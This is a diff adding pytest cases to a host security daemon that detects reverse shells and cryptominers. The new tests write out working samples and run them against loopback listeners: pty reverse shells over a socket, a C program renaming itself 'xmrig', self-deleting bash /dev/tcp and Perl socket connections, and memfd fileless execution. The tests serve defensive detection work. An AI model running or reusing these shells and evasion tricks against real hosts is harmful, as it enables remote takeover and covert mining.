@@ -5,8 +5,13 @@ training-host life that must stay clean."""
 
 from __future__ import annotations
 
+import contextlib
+import os
+import shutil
+import signal
 import subprocess
 import sys
+import tempfile
 import urllib.request
 from pathlib import Path
 
@@ -14,7 +19,7 @@ import pytest
 from prometheus_client.parser import text_string_to_metric_families
 
 from tests.conftest import require_root
-from tests.fixtures.daemon import Daemon, by_pid, daemon
+from tests.fixtures.daemon import Daemon, by_pid, daemon, rule_ids
 from tests.fixtures.network import listener, write_fake_miner
 
 WALLET = "4" + "8" * 94
@@ -165,3 +170,269 @@ def test_patient_sweep_and_port_probe_are_seen(guard: Daemon) -> None:
     probe.wait(120)
     assert "destinations" in guard.wait_alert(by_pid(sweep.pid, "probe-fanout"))["reason"]
     assert "ports on 127.0.11.200" in guard.wait_alert(by_pid(probe.pid, "probe-fanout"))["reason"]
+
+
+# --- stdio turned into a socket after exec: the pty reverse shell -------------
+
+PTY_SPAWN = r"""
+import os, pty, socket, sys
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+pty.spawn("/bin/sh")
+"""
+
+# another spelling: close 0-2 and dup() into the lowest free fd, then
+# forkpty and exec bash by hand, relaying between the pty and the socket
+FORKPTY = r"""
+import os, select, socket, sys
+s = socket.socket()
+s.connect((sys.argv[1], int(sys.argv[2])))
+for fd in (0, 1, 2):
+    os.close(fd)
+    os.dup(s.fileno())
+pid, master = os.forkpty()
+if pid == 0:
+    os.execv("/bin/bash", ["bash", "--norc", "--noprofile", "-i"])
+while True:
+    ready, _, _ = select.select([0, master], [], [])
+    for fd in ready:
+        data = os.read(fd, 4096)
+        if not data:
+            sys.exit(0)
+        os.write(master if fd == 0 else 1, data)
+"""
+
+# a terminal server (jupyter's terminals): the client's connection on a
+# high fd, the shell on a pty -- stdio never becomes the socket
+TERMINAL_SERVER = r"""
+import os, socket, sys, time
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+pid, master = os.forkpty()
+if pid == 0:
+    os.execv("/bin/sh", ["sh", "-c", "sleep 3"])
+time.sleep(3)
+"""
+
+
+def _spawn(code: str, attacker, tmp_path: Path) -> subprocess.Popen:
+    """Run code from a file: a one-liner (-c) would be judged at exec
+    already (shell-interpreter-oneliner), and the point is what it does."""
+    script = tmp_path / "program.py"
+    script.write_text(code)
+    return subprocess.Popen(
+        [sys.executable, str(script), attacker.host, str(attacker.port)],
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+        start_new_session=True,
+    )
+
+
+def _stop(proc: subprocess.Popen) -> None:
+    with contextlib.suppress(ProcessLookupError):
+        os.killpg(proc.pid, signal.SIGKILL)
+    proc.wait()
+
+
+@pytest.mark.parametrize(
+    ("code", "shell"), [(PTY_SPAWN, "sh"), (FORKPTY, "bash")], ids=["dup2-pty.spawn", "dup-forkpty"]
+)
+def test_pty_reverse_shell_is_judged_when_stdio_becomes_a_socket(
+    guard: Daemon, tmp_path: Path, code: str, shell: str
+) -> None:
+    with listener("127.0.13.1", 0) as attacker:
+        proc = _spawn(code, attacker, tmp_path)
+        try:
+            driver = guard.wait_alert(by_pid(proc.pid, "shell-stdio-socket"))
+            assert driver["category"] == "reverse_shell"
+            assert driver["network"]["daddr"] == "127.0.13.1"
+            # the shell's own stdio is a pty: judged by who drives it
+            spawned = guard.wait_alert(
+                lambda r: (
+                    "shell-under-socket-stdio" in rule_ids(r)
+                    and r["lineage"]
+                    and r["lineage"][0]["pid"] == proc.pid
+                )
+            )
+            assert spawned["process"]["comm"] == shell
+            assert spawned["category"] == "reverse_shell"
+        finally:
+            _stop(proc)
+
+
+def test_terminal_server_shell_on_a_pty_is_clean(guard: Daemon, tmp_path: Path) -> None:
+    with listener("127.0.13.2", 0) as client:
+        proc = _spawn(TERMINAL_SERVER, client, tmp_path)
+        try:
+            proc.wait(30)
+            guard.settle()
+        finally:
+            _stop(proc)
+    noisy = guard.alerts_for(
+        lambda r: (
+            r["category"] == "reverse_shell"
+            and (r["process"]["pid"] == proc.pid or any(p["pid"] == proc.pid for p in r["lineage"]))
+        )
+    )
+    assert noisy == []
+
+
+# --- renamed after exec -----------------------------------------------------------
+
+RENAMER_C = r"""
+#include <arpa/inet.h>
+#include <string.h>
+#include <sys/prctl.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+int main(int argc, char **argv)
+{
+    char host[64], *end = argv[argc - 1] + strlen(argv[argc - 1]);
+    int port = atoi(argv[2]);
+    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
+    int s;
+
+    strncpy(host, argv[1], sizeof(host) - 1);
+    host[sizeof(host) - 1] = 0;
+    memset(argv[0], 0, end - argv[0]); /* the whole argv area: ps shows a new title */
+    strcpy(argv[0], "xmrig");
+    prctl(PR_SET_NAME, "xmrig", 0, 0, 0);
+    inet_pton(AF_INET, host, &sa.sin_addr);
+    s = socket(AF_INET, SOCK_STREAM, 0);
+    connect(s, (struct sockaddr *)&sa, sizeof(sa));
+    sleep(3);
+    return 0;
+}
+"""
+
+COMM_WRITER = r"""
+import socket, sys, time
+with open("/proc/self/comm", "w") as f:
+    f.write(sys.argv[3])
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+time.sleep(2)
+"""
+
+
+def _build(tmp_path: Path, source: str, name: str) -> str:
+    c_file = tmp_path / f"{name}.c"
+    c_file.write_text(source)
+    binary = tmp_path / name
+    subprocess.run(
+        ["gcc", "-O1", "-include", "stdlib.h", "-o", str(binary), str(c_file)], check=True
+    )
+    return str(binary)
+
+
+def test_renamed_after_exec_is_judged_as_its_new_name(guard: Daemon, tmp_path: Path) -> None:
+    helper = _build(tmp_path, RENAMER_C, "helper")
+    with listener("127.0.14.1", 0, stratum=True) as pool:
+        c_renamer = subprocess.Popen([helper, "127.0.14.1", str(pool.port)])
+        py_renamer = subprocess.Popen(
+            [sys.executable, "-c", COMM_WRITER, "127.0.14.1", str(pool.port), "kdevtmpfsi"]
+        )
+        try:
+            alert = guard.wait_alert(by_pid(c_renamer.pid, "miner-known-binary"))
+            assert alert["process"]["comm"] == "xmrig"
+            assert alert["process"]["cmdline"][0] == "xmrig"  # read afresh, not the exec argv
+            alert = guard.wait_alert(by_pid(py_renamer.pid, "miner-known-binary"))
+            assert alert["process"]["comm"] == "kdevtmpfsi"
+        finally:
+            for proc in (c_renamer, py_renamer):
+                proc.kill()
+                proc.wait()
+
+
+def test_training_process_renaming_itself_is_clean(guard: Daemon) -> None:
+    """PyTorch names its main thread pt_main_thread; launchers set titles."""
+    with listener("127.0.14.2", 0) as store:
+        proc = subprocess.Popen(
+            [sys.executable, "-c", COMM_WRITER, "127.0.14.2", str(store.port), "pt_main_thread"]
+        )
+        proc.wait(30)
+    guard.settle()
+    assert guard.alerts_for(by_pid(proc.pid)) == []
+
+
+# --- exe facts at judgement time: deleted binaries and memfds -------------------
+
+
+def _private_copy(program: str) -> tuple[str, str]:
+    """A copy of program outside /tmp (a /tmp path is evidence by itself)."""
+    directory = tempfile.mkdtemp(prefix="rg-bin-", dir="/var/lib")
+    path = os.path.join(directory, "helper")
+    shutil.copy(shutil.which(program) or program, path)
+    return directory, path
+
+
+@pytest.mark.parametrize(
+    ("program", "script"),
+    [
+        ("bash", "rm -f {path}; exec 3<>/dev/tcp/{host}/{port}; sleep 2"),
+        (
+            "perl",
+            "use IO::Socket::INET; unlink '{path}'; "
+            "my $s = IO::Socket::INET->new('{host}:{port}') or die; sleep 2",
+        ),
+    ],
+    ids=["bash-dev-tcp", "perl-io-socket"],
+)
+@pytest.mark.parametrize(("port", "expected"), [(3333, True), (8081, False)])
+def test_binary_deleted_after_start_is_judged_by_its_exe_now(
+    guard: Daemon, program: str, script: str, port: int, expected: bool
+) -> None:
+    directory, path = _private_copy(program)
+    host = "127.0.15.1" if program == "bash" else "127.0.15.2"
+    flag = "-c" if program == "bash" else "-e"
+    try:
+        with listener(host, port):
+            proc = subprocess.Popen(
+                [path, flag, script.format(path=path, host=host, port=port)],
+                stderr=subprocess.DEVNULL,
+            )
+            proc.wait(30)
+        assert not os.path.exists(path)
+        if expected:
+            alert = guard.wait_alert(by_pid(proc.pid, "miner-pool-port-supporting"))
+            assert "exe deleted" in next(
+                hit["reason"]
+                for hit in alert["rules"]
+                if hit["rule"] == "miner-pool-port-supporting"
+            )
+        else:  # an upgraded service whose binary was replaced under it
+            guard.settle()
+            assert guard.alerts_for(by_pid(proc.pid)) == []
+    finally:
+        shutil.rmtree(directory, ignore_errors=True)
+
+
+MEMFD_EXEC = r"""
+import os, shutil, sys
+name, how = sys.argv[1], sys.argv[2]
+fd = os.memfd_create(name, 0)
+with open(shutil.which("sleep"), "rb") as src:
+    os.write(fd, src.read())
+if how == "fexecve":
+    os.execve(fd, ["sleep", "1"], dict(os.environ))
+else:
+    os.execv(f"/proc/self/fd/{fd}", ["sleep", "1"])
+"""
+
+
+@pytest.mark.parametrize(
+    ("name", "how"), [("xmrig", "fexecve"), ("kinsing", "proc-fd")], ids=["fexecve", "proc-fd"]
+)
+def test_memfd_named_like_a_miner(guard: Daemon, name: str, how: str) -> None:
+    proc = subprocess.Popen([sys.executable, "-c", MEMFD_EXEC, name, how])
+    proc.wait(30)
+    alert = guard.wait_alert(by_pid(proc.pid, "miner-known-binary"))
+    assert alert["process"]["exe"] == f"/memfd:{name} (deleted)"
+
+
+def test_memfd_of_a_jit_is_clean(guard: Daemon) -> None:
+    proc = subprocess.Popen([sys.executable, "-c", MEMFD_EXEC, "jit-cache", "fexecve"])
+    proc.wait(30)
+    guard.settle()
+    assert guard.alerts_for(by_pid(proc.pid)) == []
